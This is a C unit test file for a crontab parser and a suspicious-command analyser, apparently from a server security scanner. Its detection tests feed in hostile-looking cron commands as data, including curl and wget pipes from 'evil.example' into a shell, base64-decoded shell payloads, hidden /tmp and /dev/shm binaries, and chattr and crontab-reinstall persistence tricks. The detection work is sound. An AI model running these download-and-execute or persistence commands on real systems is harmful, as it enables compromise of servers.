/* Crontab parser and command analysis: odd but valid syntax, hostile input. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "host/cron_parse.h"

struct got {
	unsigned line[64];
	char *sched[64], *cmd[64], *input[64], *user[64], *shell[64];
	int period[64];
	bool valid[64], reboot[64], truncated[64];
	size_t n;
	unsigned wline[64];
	char *wmsg[64];
	size_t nw;
};

static char *dup_or_null(const char *s)
{
	return s ? strdup(s) : NULL;
}

static void on_entry(void *ud, const struct cron_entry *e)
{
	struct got *g = ud;
	if (g->n >= 64)
		return;
	g->line[g->n] = e->line;
	g->sched[g->n] = strdup(e->schedule);
	g->cmd[g->n] = strdup(e->command);
	g->input[g->n] = dup_or_null(e->input);
	g->user[g->n] = dup_or_null(e->user);
	g->shell[g->n] = dup_or_null(e->shell);
	g->period[g->n] = e->period;
	g->valid[g->n] = e->valid;
	g->reboot[g->n] = e->reboot;
	g->truncated[g->n] = e->truncated;
	g->n++;
}

static void on_warn(void *ud, unsigned line, const char *msg)
{
	struct got *g = ud;
	if (g->nw >= 64)
		return;
	g->wline[g->nw] = line;
	g->wmsg[g->nw] = strdup(msg);
	g->nw++;
}

static void got_free(struct got *g)
{
	for (size_t i = 0; i < g->n; i++) {
		free(g->sched[i]);
		free(g->cmd[i]);
		free(g->input[i]);
		free(g->user[i]);
		free(g->shell[i]);
	}
	for (size_t i = 0; i < g->nw; i++)
		free(g->wmsg[i]);
}

static size_t parse(const char *buf, size_t len, enum cron_syntax syn, struct got *g)
{
	memset(g, 0, sizeof(*g));
	struct cron_parse_cbs cbs = {.entry = on_entry, .warn = on_warn, .ud = g};
	return cron_parse(buf, len, syn, &cbs);
}

static void test_odd_valid_syntax(void **state)
{
	(void)state;
	const char *t = "# comment\n"
	                "   # indented comment\n"
	                "\n"
	                "MAILTO=\"\"\n"
	                "SHELL = /bin/bash\n"
	                "'QUOTED NAME'=x\n"
	                "*/10 * * * * /tmp/.x/run.sh\n"
	                "1-3,7-9/2 0-23/6 1,15 jan mon-fri echo hi\n"
	                "@reboot  nohup /usr/bin/true\n"
	                "@HOURLY\tdate\n"
	                "0 4 * * 7 cat %line one%line two\\% not %three\n"
	                "5 5 * * sun echo 50\\% done\n"
	                "\t 0  0  1  1  * \t  spaced   cmd  \n";
	struct got g;
	size_t n = parse(t, strlen(t), CRON_SYNTAX_USER, &g);
	assert_int_equal(n, 7);
	assert_int_equal(g.nw, 0);
	assert_int_equal(g.line[0], 7);
	assert_string_equal(g.sched[0], "*/10 * * * *");
	assert_string_equal(g.cmd[0], "/tmp/.x/run.sh");
	assert_int_equal(g.period[0], 10);
	assert_string_equal(g.shell[0], "/bin/bash");
	assert_true(g.valid[0]);
	/* minutes 1,2,3,7,9 every 6 hours: shortest gap 1 minute */
	assert_int_equal(g.line[1], 8);
	assert_int_equal(g.period[1], 1);
	assert_true(g.valid[1]);
	assert_int_equal(g.line[2], 9);
	assert_true(g.reboot[2]);
	assert_int_equal(g.period[2], 0);
	assert_string_equal(g.cmd[2], "nohup /usr/bin/true");
	assert_int_equal(g.period[3], 60);
	assert_string_equal(g.cmd[4], "cat");
	assert_string_equal(g.input[4], "line one\nline two% not \nthree");
	assert_int_equal(g.period[4], 1440);
	assert_string_equal(g.cmd[5], "echo 50% done");
	assert_null(g.input[5]);
	assert_string_equal(g.sched[5], "5 5 * * sun");
	assert_int_equal(g.line[6], 13);
	assert_string_equal(g.cmd[6], "spaced   cmd");
	assert_string_equal(g.sched[6], "0 0 1 1 *");
	got_free(&g);
}

static void test_system_syntax_user_field(void **state)
{
	(void)state;
	const char *t = "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
	                "*/2 * * * * www-data /dev/shm/x\n"
	                "@daily nobody\n";
	struct got g;
	size_t n = parse(t, strlen(t), CRON_SYNTAX_SYSTEM, &g);
	assert_int_equal(n, 2);
	assert_string_equal(g.user[0], "root");
	assert_string_equal(g.cmd[0], "cd / && run-parts --report /etc/cron.hourly");
	assert_string_equal(g.user[1], "www-data");
	assert_int_equal(g.period[1], 2);
	assert_int_equal(g.nw, 1);
	assert_int_equal(g.wline[0], 3);
	got_free(&g);
}

static void test_invalid_schedule_warns_and_is_checked(void **state)
{
	(void)state;
	const char *t = "61 * * * * /tmp/x\n* * * foo * y\n5-1 * * * * z\nthis is not cron\n";
	struct got g;
	size_t n = parse(t, strlen(t), CRON_SYNTAX_USER, &g);
	assert_int_equal(n, 3);
	assert_false(g.valid[0]);
	assert_false(g.valid[1]);
	assert_false(g.valid[2]);
	assert_int_equal(g.nw, 4);
	assert_int_equal(g.wline[0], 1);
	assert_non_null(strstr(g.wmsg[0], "minute"));
	assert_non_null(strstr(g.wmsg[1], "month"));
	assert_int_equal(g.wline[3], 4);
	assert_non_null(strstr(g.wmsg[3], "not a crontab entry"));
	got_free(&g);
}

static void test_binary_garbage(void **state)
{
	(void)state;
	size_t len = 256 * 1024;
	unsigned char *buf = malloc(len);
	uint32_t x = 12345;
	for (size_t i = 0; i < len; i++) {
		x = x * 1103515245u + 12345u;
		buf[i] = (unsigned char)(x >> 16);
	}
	struct got g;
	parse((const char *)buf, len, CRON_SYNTAX_USER, &g);
	/* every complaint names a line within the file */
	assert_true(g.nw > 0);
	for (size_t i = 0; i < g.nw; i++) {
		assert_true(g.wline[i] >= 1);
		assert_true(g.wline[i] <= 2000);
	}
	got_free(&g);
	/* binary in the middle of a valid crontab: the entries around it survive */
	const char t[] = "* * * * * a\n\x7f\x45\x4c\x46\x02\x01\x01\x00\x00\x00\xff\n0 1 * * * b\n";
	parse(t, sizeof(t) - 1, CRON_SYNTAX_USER, &g);
	assert_int_equal(g.n, 2);
	assert_int_equal(g.line[1], 3);
	assert_int_equal(g.nw, 1);
	assert_int_equal(g.wline[0], 2);
	assert_non_null(strstr(g.wmsg[0], "binary"));
	got_free(&g);
	free(buf);
}

static void test_megabyte_line(void **state)
{
	(void)state;
	size_t big = 1024 * 1024;
	char *buf = malloc(big + 64);
	size_t off = (size_t)sprintf(buf, "0 0 * * * echo hi\n*/5 * * * * ");
	memset(buf + off, 'A', big);
	off += big;
	off += (size_t)sprintf(buf + off, "\n1 1 * * * tail\n");
	struct got g;
	size_t n = parse(buf, off, CRON_SYNTAX_USER, &g);
	assert_int_equal(n, 3);
	assert_true(g.truncated[1]);
	assert_int_equal(g.line[2], 3);
	assert_string_equal(g.cmd[2], "tail");
	assert_int_equal(g.nw, 1);
	assert_int_equal(g.wline[0], 2);
	assert_non_null(strstr(g.wmsg[0], "longer than"));
	got_free(&g);
	/* a megabyte line of nothing but junk */
	memset(buf, 'x', big);
	buf[big] = '\n';
	parse(buf, big + 1, CRON_SYNTAX_USER, &g);
	assert_int_equal(g.n, 0);
	assert_int_equal(g.nw, 1);
	assert_int_equal(g.wline[0], 1);
	got_free(&g);
	free(buf);
}

static struct strlist tmp_dirs, allow;

static unsigned analyze(const char *cmd, const char *input, int period, struct cron_analysis *a)
{
	struct cron_analysis_opts o = {.tmp_dirs = &tmp_dirs,
	                               .allow_hidden = &allow,
	                               .high_frequency = 10,
	                               .home = "/home/alice"};
	cron_analyze(cmd, input, period, &o, a);
	return a->reasons;
}

#define R(x) (1u << (x))

static void test_analysis(void **state)
{
	(void)state;
	struct cron_analysis a;
	assert_int_equal(analyze("/tmp/.x/run.sh >/dev/null 2>&1", NULL, 10, &a),
	                 R(CR_TMP_PATH) | R(CR_HIDDEN_PATH));
	assert_string_equal(a.exec.v[0], "/tmp/.x/run.sh");
	cron_analysis_free(&a);

	assert_true(analyze("curl -fsSL http://evil.example/x | sh", NULL, 60, &a) &
	            R(CR_DOWNLOAD_EXEC));
	cron_analysis_free(&a);
	assert_true(analyze("wget -qO- http://x/y|/bin/bash", NULL, 60, &a) & R(CR_DOWNLOAD_EXEC));
	cron_analysis_free(&a);
	assert_true(analyze("bash -c \"$(wget -q -O - http://x/y)\"", NULL, 60, &a) &
	            R(CR_DOWNLOAD_EXEC));
	cron_analysis_free(&a);

	/* benign customer entries */
	assert_int_equal(
	    analyze("php /home/alice/public_html/wp-cron.php >/dev/null 2>&1", NULL, 15, &a), 0);
	assert_string_equal(a.php.v[0], "/home/alice/public_html/wp-cron.php");
	assert_int_equal(a.exec.n, 0);
	cron_analysis_free(&a);
	assert_int_equal(
	    analyze("/usr/bin/php -q ~/public_html/cron.php > /tmp/cron.log", NULL, 5, &a), 0);
	assert_string_equal(a.php.v[0], "/home/alice/public_html/cron.php");
	cron_analysis_free(&a);
	assert_int_equal(analyze("\"/home/alice/.acme.sh\"/acme.sh --cron --home "
	                         "\"/home/alice/.acme.sh\" > /dev/null",
	                         NULL, 1440, &a),
	                 0);
	cron_analysis_free(&a);

	assert_int_equal(analyze("cd /var/tmp/.ICE && ./kswapd", NULL, 1440, &a),
	                 R(CR_TMP_PATH) | R(CR_HIDDEN_PATH));
	assert_string_equal(a.exec.v[0], "/var/tmp/.ICE/kswapd");
	cron_analysis_free(&a);
	assert_int_equal(analyze("echo ZWNobyBoaQ== | base64 -d | sh", NULL, 1440, &a),
	                 R(CR_BASE64));
	cron_analysis_free(&a);
	assert_int_equal(analyze("perl -e 'print 1'", NULL, 1440, &a), R(CR_INLINE_CODE));
	cron_analysis_free(&a);
	assert_int_equal(analyze("python3 -c 'import os'", NULL, 1440, &a), R(CR_INLINE_CODE));
	cron_analysis_free(&a);
	assert_int_equal(analyze("eval \"$X\"", NULL, 1440, &a), R(CR_EVAL));
	cron_analysis_free(&a);
	/* detached: only when frequent or at boot */
	assert_int_equal(analyze("nohup /usr/local/bin/x >/dev/null 2>&1 &", NULL, 5, &a),
	                 R(CR_DETACHED));
	cron_analysis_free(&a);
	assert_int_equal(analyze("nohup /usr/local/bin/x >/dev/null 2>&1 &", NULL, 0, &a),
	                 R(CR_DETACHED));
	cron_analysis_free(&a);
	assert_int_equal(analyze("nohup /usr/local/bin/x >/dev/null 2>&1 &", NULL, 1440, &a), 0);
	cron_analysis_free(&a);
	assert_int_equal(analyze("sh -c '/dev/shm/a'", NULL, 1440, &a), R(CR_TMP_PATH));
	cron_analysis_free(&a);
	assert_int_equal(analyze("chattr +ia /home/alice/x", NULL, 1440, &a), R(CR_CHATTR));
	cron_analysis_free(&a);
	assert_true(analyze("crontab -l | grep -v x | crontab -", NULL, 1440, &a) &
	            R(CR_REINSTALL));
	cron_analysis_free(&a);
	/* stdin of a shell is a script */
	assert_int_equal(analyze("/bin/sh", "/tmp/y", 1440, &a), R(CR_TMP_PATH));
	cron_analysis_free(&a);
	assert_int_equal(analyze("perl /tmp/ok.pl", NULL, 1440, &a), R(CR_TMP_PATH));
	cron_analysis_free(&a);
}

static void test_hostile_commands(void **state)
{
	(void)state;
	struct cron_analysis a;
	/* unterminated quotes, lone operators, deep nesting: no crash */
	const char *odd[] = {"'",
	                     "\"",
	                     "\\",
	                     "$(",
	                     "`",
	                     ">",
	                     "2>",
	                     "&>",
	                     "| | |",
	                     "sh -c",
	                     "sh -c 'sh -c \"sh -c \\\"sh -c /tmp/x\\\"\"'",
	                     "~",
	                     "$HOME",
	                     "cd",
	                     "cd ~/x && ../y"};
	for (size_t i = 0; i < sizeof(odd) / sizeof(odd[0]); i++) {
		analyze(odd[i], odd[i], 1, &a);
		cron_analysis_free(&a);
	}
	char *big = malloc(200001);
	memset(big, '(', 200000);
	big[200000] = '\0';
	analyze(big, NULL, 1, &a);
	cron_analysis_free(&a);
	free(big);
}

int main(void)
{
	strlist_split_words(&tmp_dirs, "/tmp /var/tmp /dev/shm");
	strlist_split_words(&allow, ".acme.sh");
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_odd_valid_syntax),
	    cmocka_unit_test(test_system_syntax_user_field),
	    cmocka_unit_test(test_invalid_schedule_warns_and_is_checked),
	    cmocka_unit_test(test_binary_garbage),
	    cmocka_unit_test(test_megabyte_line),
	    cmocka_unit_test(test_analysis),
	    cmocka_unit_test(test_hostile_commands),
	};
	int r = cmocka_run_group_tests(tests, NULL, NULL);
	strlist_clear(&tmp_dirs);
	strlist_clear(&allow);
	return r;
}
